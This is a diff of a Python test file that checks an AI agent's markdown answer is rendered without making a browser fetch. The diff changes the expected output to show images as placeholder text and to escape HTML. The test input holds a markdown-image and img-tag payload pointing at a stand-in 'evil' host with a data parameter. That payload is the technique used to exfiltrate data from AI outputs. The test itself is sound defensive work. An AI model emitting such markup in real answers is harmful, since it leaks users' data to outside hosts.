@@ -279,10 +279,7 @@ async def test_what_servers_count_is_recorded_with_the_step() -> None:
 async def test_the_models_markdown_makes_no_browser_fetch() -> None:
     agent = agent_with("See ![x](http://evil/?d=1) <img src=//evil> and `<b>` ok")
     await run(agent)
-    assert (
-        agent.transcript.answer
-        == "See !\u2060[x](http://evil/?d=1) <\u2060img src=//evil> and `<\u2060b>` ok"
-    )
+    assert agent.transcript.answer == "See [image not shown: x] &lt;img src=//evil> and `<b>` ok"
 
 
 # -- native calls
